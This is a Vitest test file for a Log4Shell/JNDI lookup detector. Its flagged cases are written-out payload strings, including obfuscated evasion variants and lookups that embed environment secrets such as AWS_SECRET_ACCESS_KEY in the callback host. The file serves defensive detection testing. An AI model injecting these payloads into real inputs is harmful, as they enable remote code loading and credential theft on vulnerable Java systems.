import { describe, expect, it } from 'vitest';
import { jndi } from './index.js';

describe('JNDI / Log4Shell lookups', () => {
  it.each([
    ['${jndi:ldap://192.0.2.1/x}', 'jndi-lookup'],
    ['${jndi:rmi://192.0.2.1:1099/y}', 'jndi-lookup'],
    ['${jndi:dns://192.0.2.1/z}', 'jndi-lookup'],
    ['${jndi:ldaps://h.test/a}', 'jndi-lookup'],
    ['${jndi:iiop://h.test/a}', 'jndi-lookup'],
    ['${jndi:corba://h.test/a}', 'jndi-lookup'],
    ['${jndi:nds://h.test/a}', 'jndi-lookup'],
    ['${jndi:http://h.test/C.class}', 'jndi-lookup'],
    ['${JnDi:LdAp://h.test/a}', 'jndi-lookup'],
    ['agent ${jndi:ldap://h.test/ua} end', 'jndi-lookup'],
    ['${${lower:J}ndi:ldap://h.test/a}', 'jndi-obfuscated'],
    ['${${upper:j}NDI:rmi://h.test/a}', 'jndi-obfuscated'],
    ['${${::-j}${::-n}${::-d}${::-i}:dns://h.test/a}', 'jndi-obfuscated'],
    ['${${env:UNSET:-j}ndi${env:UNSET:-:}ldap://h.test/a}', 'jndi-obfuscated'],
    ["${${date:'j'}${date:'n'}di:ldap://h.test/a}", 'jndi-obfuscated'],
    ['${${lower:${upper:j}}ndi:ldap://h.test/a}', 'jndi-obfuscated'],
    ['${jndi:${lower:L}DAP://h.test/a}', 'jndi-obfuscated'],
    ['${${k8s:q:-j}ndi:ldap://h.test/a}', 'jndi-obfuscated'],
    ['$${x:-${y:-$}{jndi:ldap://h.test/a}}}', 'jndi-obfuscated'],
    ['${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.h.test/a}', 'jndi-exfil'],
    ['${jndi:dns://${sys:user.home}.h.test}', 'jndi-exfil'],
    ['${jndi:ldap://h.test/${java:version}}', 'jndi-exfil'],
    ['${jndi:ldap://h.test/cut', 'jndi-lookup'],
  ])('%s is flagged (%s)', (v, reason) => {
    const d = jndi.detect(v);
    expect(d?.reason).toBe(reason);
    expect(d!.confidence).toBeGreaterThanOrEqual(0.8);
    expect(d!.fragment.length).toBeLessThanOrEqual(64);
  });

  it.each([
    '${HOME}', '${var}', '${price} per item', 'Costs $5 or ${amount}', 'jndi is a Java API', 'jndi:ldap://not-a-lookup', '${jndi}', '${lower:JNDI}',
    '${env:JAVA_HOME}', '${sys:java.version}', '${date:yyyy-MM-dd}', 'JSON {"j": "${x}"}', '${::-j}', '$ {jndi:ldap://spaced/}',
    '${j}${n}${d}${i}', '{jndi:ldap://no-dollar/}', 'jQuery ${selector}', '${upper:jn}di', 'just text', '$$$ {{}} ${{}}',
  ])('%s is benign', (v) => {
    expect(jndi.detect(v)).toBeUndefined();
  });

  it('handles a 1 MB value and deep nesting in bounded time', () => {
    const filler = 'x ${a} $ { } j '.repeat(70000);
    expect(filler.length).toBeGreaterThan(1_000_000);
    const t0 = Date.now();
    expect(jndi.detect(filler)).toBeUndefined();
    expect(jndi.detect(`${filler}\${jndi:ldap://h.test/tail}`)?.reason).toBe('jndi-lookup');
    expect(jndi.detect('${'.repeat(600_000) + 'j' + '}'.repeat(600_000))).toBeUndefined();
    expect(jndi.detect('${::-'.repeat(200_000) + 'j')).toBeUndefined();
    expect(Date.now() - t0).toBeLessThan(1000);
  });
});
